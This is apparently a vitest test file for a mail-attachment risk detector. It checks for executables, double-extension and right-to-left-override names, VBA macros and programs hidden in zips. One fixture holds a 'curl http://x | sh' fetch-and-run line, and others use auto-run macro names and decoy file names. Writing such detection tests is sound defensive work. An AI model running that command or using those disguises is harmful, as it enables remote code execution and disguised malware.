import { randomBytes } from "node:crypto";
import { describe, expect, it } from "vitest";
import { compoundFile } from "../../../test/support/compound-file.ts";
import { zipArchive } from "../../../test/support/zip.ts";
import { attachmentRisk } from "./attachment-risk.ts";

// Real file headers, as the first bytes of each kind of program.
function windowsProgram(): Buffer {
  const dos = Buffer.alloc(0x80);
  dos.write("MZ", 0, "latin1");
  dos.writeUInt32LE(0x40, 0x3c); // e_lfanew: where the PE header is
  dos.write("PE\0\0", 0x40, "latin1");
  dos.writeUInt16LE(0x8664, 0x44); // x86-64
  return Buffer.concat([dos, Buffer.alloc(512)]);
}
const elfProgram = () => Buffer.concat([Buffer.from("7f454c46020101000000000000000000", "hex"), Buffer.from("02003e00", "hex"), Buffer.alloc(100)]);
const machOProgram = () => Buffer.concat([Buffer.from("cffaedfe0c000001", "hex"), Buffer.alloc(100)]);
const universalMachO = () => Buffer.concat([Buffer.from("cafebabe00000002", "hex"), Buffer.alloc(100)]);
const javaClass = () => Buffer.concat([Buffer.from("cafebabe00000041", "hex"), Buffer.alloc(100)]);
const shortcut = () => Buffer.concat([Buffer.from("4c0000000114020000000000c000000000000046", "hex"), Buffer.alloc(60)]);
const pdf = () => Buffer.from("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
const png = () => Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), randomBytes(200)]);

const contentTypes = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
const docx = (extra: { name: string; data: Uint8Array | string }[] = []) =>
  zipArchive([{ name: "[Content_Types].xml", data: contentTypes, deflate: true }, { name: "_rels/.rels", data: "<Relationships/>", deflate: true }, { name: "word/document.xml", data: "<w:document/>".repeat(50), deflate: true }, ...extra.map((e) => ({ ...e, deflate: true }))]);
const vbaProject = () => compoundFile([{ path: "VBA/_VBA_PROJECT", data: "\xcc\x61" }, { path: "VBA/dir", data: "d" }, { path: "VBA/ThisDocument", data: "Sub AutoOpen()" }, { path: "PROJECT", data: "ID=" }]);

describe("attachment risk by name", () => {
  it.each([
    ["setup.exe"],
    ["SETUP.EXE"],
    ["run.bat"],
    ["update.ps1"],
    ["invoice.js"],
    ["installer.msi"],
    ["disk.iso"],
    ["shortcut.lnk"],
    ["app.apk"],
    ["screensaver.scr"],
    ["tool.jar"],
    ["report.exe."],
    ["report.exe  "],
    ["C:\\Users\\bob\\Downloads\\evil.scr"],
    ["../../evil.vbs"],
    ["setup.v1.2.exe"],
  ])("%s is a program", (filename) => {
    expect(attachmentRisk({ filename, contentType: "application/octet-stream", bytes: Buffer.from("data") })).toEqual({ reason: "executable", detail: expect.stringContaining("can run code") });
  });

  it.each([["invoice.pdf.exe", "pdf", "exe"], ["photo.JPG.scr", "jpg", "scr"], ["statement.docx.js", "docx", "js"], ["invoice.pdf            .exe", "pdf", "exe"]])("%s has a double extension", (filename, decoy, real) => {
    expect(attachmentRisk({ filename, bytes: Buffer.from("data") })).toEqual({ reason: "double-extension", detail: expect.stringContaining(`looks like a .${decoy} file but is a .${real} file`) });
  });

  it("sees through a right-to-left override, and escapes it in the detail", () => {
    // Displays as "invoiceexe.pdf".
    const risk = attachmentRisk({ filename: "invoice\u202efdp.exe", bytes: Buffer.from("data") });
    expect(risk).toEqual({ reason: "misleading-name", detail: expect.stringContaining("U+202E") });
    expect(risk!.detail).toContain("\\u202e");
    expect(risk!.detail).not.toContain("\u202e");
    expect(risk!.detail).toContain('really ends in ".exe"');
    expect(attachmentRisk({ filename: "photo\u2067gpj.txt", bytes: Buffer.from("hi") })?.reason).toBe("misleading-name");
  });

  it.each([["budget.xlsm"], ["letter.docm"], ["template.dotm"], ["addin.xlam"], ["deck.pptm"], ["show.ppsm"]])("%s is a macro document", (filename) => {
    expect(attachmentRisk({ filename, bytes: Buffer.from("data") })?.reason).toBe("macro-document");
  });

  it("passes ordinary names", () => {
    for (const filename of ["report.pdf", "v1.2.final.pdf", "photo.jpeg", "notes.txt", "data.csv", "archive.tar.gz", "README", ".bashrc", "exe.pdf", "résumé 2026.docx", "مستند.pdf"]) {
      expect(attachmentRisk({ filename, bytes: Buffer.from("plain text") }), filename).toBeNull();
    }
  });
});

describe("attachment risk by content", () => {
  it.each([
    ["a Windows program (PE)", windowsProgram],
    ["a Linux/Unix program (ELF)", elfProgram],
    ["a macOS program (Mach-O)", machOProgram],
    ["a macOS program (universal Mach-O)", universalMachO],
    ["a Java class", javaClass],
    ["a Windows shortcut (.lnk)", shortcut],
    ["a script (#!)", () => Buffer.from("#!/bin/sh\ncurl http://x | sh\n")],
    ["a script (#!)", () => Buffer.from("#! /usr/bin/env python3\nimport os\n")],
  ])("finds %s whatever the name", (kind, bytes) => {
    for (const filename of ["report.pdf", "", null]) {
      expect(attachmentRisk({ filename, contentType: "application/pdf", bytes: bytes() })).toEqual({ reason: "executable", detail: expect.stringContaining(`is ${kind}, whatever its name says`) });
    }
  });

  it("does not take text that starts with MZ or #! for a program", () => {
    expect(attachmentRisk({ filename: "notes.txt", bytes: Buffer.from("MZ is where the parcel goes.\n".repeat(10)) })).toBeNull();
    expect(attachmentRisk({ filename: "notes.txt", bytes: Buffer.from("#!important: read this\n") })).toBeNull();
    expect(attachmentRisk({ filename: "scan.pdf", bytes: pdf() })).toBeNull();
    expect(attachmentRisk({ filename: "scan.png", contentType: "image/png", bytes: png() })).toBeNull();
  });

  it("finds VBA macros in a legacy Office file (OLE2) with an innocent name", () => {
    // Enough entries before the macros that the directory spans sectors chained through the FAT.
    const wordWithMacros = compoundFile([
      { path: "WordDocument", data: "w".repeat(5000) },
      { path: "1Table", data: "t" },
      { path: "Data", data: "d" },
      { path: "\u0005SummaryInformation", data: "s" },
      { path: "\u0005DocumentSummaryInformation", data: "s" },
      { path: "Macros/VBA/_VBA_PROJECT", data: "v" },
      { path: "Macros/VBA/dir", data: "d" },
      { path: "Macros/PROJECT", data: "p" },
    ]);
    expect(attachmentRisk({ filename: "letter.doc", contentType: "application/msword", bytes: wordWithMacros })).toEqual({ reason: "macro-document", detail: expect.stringContaining("VBA macros") });
    const excelWithMacros = compoundFile([{ path: "Workbook", data: "b" }, { path: "_VBA_PROJECT_CUR/VBA/_VBA_PROJECT", data: "v" }, { path: "_VBA_PROJECT_CUR/PROJECT", data: "p" }]);
    expect(attachmentRisk({ filename: "budget.xls", bytes: excelWithMacros })?.reason).toBe("macro-document");
    // The same kinds of file without macros pass.
    expect(attachmentRisk({ filename: "letter.doc", bytes: compoundFile([{ path: "WordDocument", data: "w" }, { path: "1Table", data: "t" }, { path: "\u0001CompObj", data: "c" }]) })).toBeNull();
    expect(attachmentRisk({ filename: "budget.xls", bytes: compoundFile([{ path: "Workbook", data: "b".repeat(9000) }, { path: "\u0005SummaryInformation", data: "s" }]) })).toBeNull();
  });

  it("finds macros in OOXML by its vbaProject.bin or macro sheets, whatever the extension says", () => {
    expect(attachmentRisk({ filename: "letter.docx", bytes: docx([{ name: "word/vbaProject.bin", data: vbaProject() }]) })).toEqual({ reason: "macro-document", detail: expect.stringContaining('"word/vbaProject.bin"') });
    expect(attachmentRisk({ filename: "sheet.xlsx", bytes: zipArchive([{ name: "[Content_Types].xml", data: contentTypes }, { name: "xl/macrosheets/sheet1.xml", data: "<xm:macrosheet/>" }]) })?.reason).toBe("macro-document");
    expect(attachmentRisk({ filename: "letter.docx", contentType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document", bytes: docx() })).toBeNull();
  });

  it("finds a program listed in a zip, deflated, nested in folders, or behind a decoy name", () => {
    const zip = zipArchive([{ name: "invoices/" }, { name: "invoices/march.pdf", data: pdf(), deflate: true }, { name: "invoices/open-me.exe", data: windowsProgram(), deflate: true }]);
    expect(attachmentRisk({ filename: "invoices.zip", contentType: "application/zip", bytes: zip })).toEqual({ reason: "archive-with-executable", detail: expect.stringContaining('"invoices/open-me.exe"') });
    const decoy = zipArchive([{ name: "scan.pdf.js", data: "WScript.Shell", deflate: true }]);
    expect(attachmentRisk({ filename: "scan.zip", bytes: decoy })).toEqual({ reason: "archive-with-executable", detail: expect.stringContaining("looks like a .pdf file but is a .js file") });
    // Encrypted entries still show their names.
    expect(attachmentRisk({ filename: "secret.zip", bytes: zipArchive([{ name: "payload.vbs", data: "x", encrypted: true }]) })?.reason).toBe("archive-with-executable");
    // A zip named as something else, and one with a self-extractor stub glued in front.
    expect(attachmentRisk({ filename: "photo.jpg", bytes: zipArchive([{ name: "run.bat", data: "@echo off" }]) })?.reason).toBe("archive-with-executable");
    expect(attachmentRisk({ filename: "files.zip", bytes: zipArchive([{ name: "a.txt", data: "a" }, { name: "b.cmd", data: "b", deflate: true }], { prepend: randomBytes(3000), comment: "made by a tool" }) })?.reason).toBe("archive-with-executable");
  });

  it("reads both the central directory and the local headers, when a crafted zip makes them disagree", () => {
    const central = zipArchive([{ name: "readme.txt", data: "hello" }]);
    const localSaysExe = Buffer.from(central);
    localSaysExe.write("readme.exe", 30, "latin1"); // the local header's name; the central one still says .txt
    expect(attachmentRisk({ filename: "a.zip", bytes: localSaysExe })?.reason).toBe("archive-with-executable");
    const centralSaysExe = Buffer.from(central);
    centralSaysExe.write("readme.exe", centralSaysExe.lastIndexOf("readme.txt"), "latin1");
    expect(attachmentRisk({ filename: "a.zip", bytes: centralSaysExe })?.reason).toBe("archive-with-executable");
  });

  it("sees into a zip stored uncompressed inside a zip", () => {
    const inner = zipArchive([{ name: "evil.scr", data: "x", deflate: true }]);
    expect(attachmentRisk({ filename: "outer.zip", bytes: zipArchive([{ name: "notes.txt", data: "hi" }, { name: "inner.zip", data: inner }]) })?.reason).toBe("archive-with-executable");
  });

  it("passes archives of ordinary files", () => {
    const zip = zipArchive([{ name: "photos/" }, { name: "photos/a.jpg", data: png() }, { name: "report.pdf", data: pdf(), deflate: true }, { name: "exe.txt", data: "not one" }, { name: "Ünïcode naïve.docx", data: docx() }]);
    expect(attachmentRisk({ filename: "holiday.zip", contentType: "application/zip", bytes: zip })).toBeNull();
  });

  it("does not trip on truncated or corrupt archives and compound files", () => {
    const zip = zipArchive([{ name: "a.txt", data: "a".repeat(1000), deflate: true }]);
    const cfb = compoundFile([{ path: "WordDocument", data: "w" }]);
    for (const bytes of [zip.subarray(0, 40), zip.subarray(0, zip.length - 10), cfb.subarray(0, 600), Buffer.concat([cfb.subarray(0, 512), randomBytes(2048)]), randomBytes(100_000)]) {
      expect(attachmentRisk({ filename: "x.bin", bytes })).toBeNull();
    }
    const loop = Buffer.from(cfb);
    loop.writeUInt32LE(1, 512 + 4); // the directory's FAT entry points to itself
    expect(attachmentRisk({ filename: "x.doc", bytes: loop })).toBeNull();
  });

  it("takes a declared program or macro type at its word", () => {
    expect(attachmentRisk({ filename: "file.bin", contentType: "application/x-msdownload", bytes: randomBytes(64) })).toEqual({ reason: "executable", detail: expect.stringContaining("application/x-msdownload") });
    expect(attachmentRisk({ filename: "file", contentType: "application/vnd.ms-excel.sheet.macroEnabled.12; name=file", bytes: randomBytes(64) })?.reason).toBe("macro-document");
  });

  it("checks a 25 MB archive quickly", () => {
    const big = zipArchive([{ name: "video.mp4", data: randomBytes(25 * 1024 * 1024) }, { name: "tool.exe", data: "x" }]);
    const started = performance.now();
    expect(attachmentRisk({ filename: "big.zip", bytes: big })?.reason).toBe("archive-with-executable");
    const ms = performance.now() - started;
    console.log(`attachment risk: 25 MB zip checked in ${ms.toFixed(0)} ms`);
    expect(ms).toBeLessThan(2_000);
  });
});
